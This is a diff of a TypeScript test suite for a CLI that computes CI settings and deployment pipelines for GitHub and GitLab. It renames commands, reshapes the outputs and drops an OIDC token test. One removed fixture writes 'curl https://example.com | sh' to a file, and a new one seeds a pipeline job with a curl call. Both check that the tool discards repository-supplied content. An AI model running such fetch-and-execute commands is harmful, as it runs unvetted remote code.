@@ -1,7 +1,5 @@
 import { spawn, spawnSync } from 'node:child_process';
-import { cpSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { FakeGitHub } from '../../support/fake-github';
 import { PROGRAM, REPOSITORY } from '../../support/repository';
@@ -42,7 +40,7 @@ beforeAll(() => {
 const estatesIn = ({ stdout }: { readonly stdout: string }): readonly string[] =>
   (JSON.parse(stdout) as { name: string }[]).map(({ name }) => name);
 
-describe('ci-settings', () => {
+describe('ci settings', () => {
   test.each([
     [['estates/acme/estate.yaml'], ['acme']],
     [['bicep/beta/azure.bicep'], ['beta']],
@@ -50,11 +48,11 @@ describe('ci-settings', () => {
     [['README.md'], []],
   ])('after a change of %j names %j', async (paths, estates) => {
     commit(...paths);
-    expect(estatesIn(await entraAws(['ci-settings', '--base', 'HEAD~1']))).toEqual(estates);
+    expect(estatesIn(await entraAws(['ci', 'settings', '--base', 'HEAD~1']))).toEqual(estates);
   });
 
   test('on a branch names all', async () => {
-    expect(estatesIn(await entraAws(['ci-settings']))).toEqual(['acme', 'beta']);
+    expect(estatesIn(await entraAws(['ci', 'settings']))).toEqual(['acme', 'beta']);
   });
 
   test('adds to the outputs of a step at GitHub, of what the pull request touches', async () => {
@@ -62,32 +60,37 @@ describe('ci-settings', () => {
     const [event, output] = [join(project, 'event.json'), join(project, 'output')];
     writeFileSync(event, JSON.stringify({ merge_group: { base_sha: 'HEAD~1' } }));
     const run = { GITHUB_ACTIONS: 'true', GITHUB_EVENT_PATH: event, GITHUB_OUTPUT: output };
-    expect(await entraAws(['ci-settings', '--output', 'github'], run)).toMatchObject({ code: 0, stdout: '' });
+    expect(await entraAws(['ci', 'settings'], run)).toMatchObject({ code: 0, stdout: '' });
     const [, value = ''] = /^estates=(.*)\n$/.exec(readFileSync(output, 'utf8')) ?? [];
-    expect(JSON.parse(value)).toEqual([
-      { name: 'beta', settings: expect.objectContaining({ BASE: 'HEAD~1', COMMENTS: 'false' }) as unknown },
+    // A queue is of no identity that a cloud trusts.
+    expect(JSON.parse(value)).toMatchObject([
+      { name: 'beta', jobs: ['preview', 'report'], previewEnvironment: 'preview' },
     ]);
   });
 
-  test('writes a file for a shell, with nothing of one that the repository brings', async () => {
-    const file = join(project, '.identity-settings.sh');
-    writeFileSync(file, 'curl https://example.com | sh\n');
-    const args = ['ci-settings', '--estate', 'acme', '--output', 'gitlab', '--out', file];
-    expect(await entraAws(args)).toMatchObject({ code: 0, stdout: '' });
-    expect(readFileSync(file, 'utf8')).toMatch(/^(export [A-Z_]+='[^']*'\n)+$/);
+  test('writes the pipeline that deploys for GitLab, with nothing of one that the repository brings', async () => {
+    const file = join(project, 'identity-deploy.yml');
+    writeFileSync(file, 'job: { script: [curl https://example.com] }\n');
+    expect(await entraAws(['ci', 'settings', '--out', file], { GITLAB_CI: 'true' })).toMatchObject({
+      code: 0,
+      stdout: '',
+    });
+    expect(readFileSync(file, 'utf8')).toMatch(
+      /^include:\n.*\nvariables:\n {2}IDENTITY_JOBS: ',acme:preview,[\w:,-]+,'\n$/,
+    );
   });
 
   test('says so where the base is not there', async () => {
-    const { code, stderr } = await entraAws(['ci-settings', '--base', 'nowhere']);
+    const { code, stderr } = await entraAws(['ci', 'settings', '--base', 'nowhere']);
     expect(code).toBe(1);
     expect(stderr).toContain("there is no git revision 'nowhere' here");
   });
 });
 
-describe('ci-settings of a deployment', () => {
+describe('ci settings of a deployment', () => {
   const head = (): string => spawnSync('git', ['rev-parse', 'HEAD'], { cwd: project, encoding: 'utf8' }).stdout.trim();
   let github: FakeGitHub;
-  const run = (...args: readonly string[]) => entraAws(['ci-settings', ...args], github.environment);
+  const run = (...args: readonly string[]) => entraAws(['ci', 'settings', ...args], github.environment);
 
   beforeAll(async () => {
     github = await FakeGitHub.start();
@@ -114,7 +117,7 @@ describe('ci-settings of a deployment', () => {
   test('names one that is asked for, touched or not, and no other', async () => {
     expect(estatesIn(await run('--deployment', 'acme'))).toEqual(['acme']);
     const { stdout } = await run('--deployment', 'acme', '--estate', 'beta');
-    expect(JSON.parse(stdout)).toMatchObject([{ name: 'beta', settings: { TOUCHED: 'false', DEPLOYS: 'false' } }]);
+    expect(JSON.parse(stdout)).toMatchObject([{ name: 'beta', jobs: [] }]);
     const { code, stderr } = await run('--deployment', 'gamma');
     expect({ code, stderr }).toEqual({
       code: 2,
@@ -123,7 +126,7 @@ describe('ci-settings of a deployment', () => {
   });
 
   test('names all where the forge refuses', async () => {
-    const refused = await entraAws(['ci-settings', '--deployment', 'touched'], {
+    const refused = await entraAws(['ci', 'settings', '--deployment', 'touched'], {
       ...github.environment,
       GITHUB_TOKEN: 'another',
     });
@@ -133,7 +136,7 @@ describe('ci-settings of a deployment', () => {
   });
 
   test('says of an estate of which the pipeline deploys nothing that it is not deployed, and why, whatever differs', async () => {
-    const { stderr } = await entraAws(['ci-settings', '--deployment', 'touched'], {
+    const { stderr } = await entraAws(['ci', 'settings', '--deployment', 'touched'], {
       ...github.environment,
       GITHUB_REPOSITORY: 'insurance/renamed',
     });
@@ -143,26 +146,5 @@ describe('ci-settings of a deployment', () => {
 
   test('asks nobody in a pull request, which is compared with its base', async () => {
     expect(estatesIn(await run('--deployment', 'touched', '--base', 'HEAD'))).toEqual([]);
-  });
-});
-
-describe('ci-token', () => {
-  test('writes the token of a service connection where only its owner reads it', async () => {
-    const asked: string[] = [];
-    const server = createServer((request, response) => {
-      asked.push(`${request.method ?? ''} ${request.url ?? ''} ${request.headers.authorization ?? ''}`);
-      response.setHeader('content-type', 'application/json').end(JSON.stringify({ oidcToken: 'the-token' }));
-    });
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    const file = join(project, 'token');
-    const env = {
-      SYSTEM_OIDCREQUESTURI: `http://127.0.0.1:${(server.address() as AddressInfo).port}/oidctoken`,
-      SYSTEM_ACCESSTOKEN: 'of-the-job',
-    };
-    const { code, stdout } = await entraAws(['ci-token', '--connection', 'an-id', '--out', file], env);
-    server.close();
-    expect({ code, stdout, token: readFileSync(file, 'utf8') }).toEqual({ code: 0, stdout: '', token: 'the-token' });
-    expect(statSync(file).mode & 0o777).toBe(0o600);
-    expect(asked).toEqual(['POST /oidctoken?api-version=7.1&serviceConnectionId=an-id Bearer of-the-job']);
   });
 });
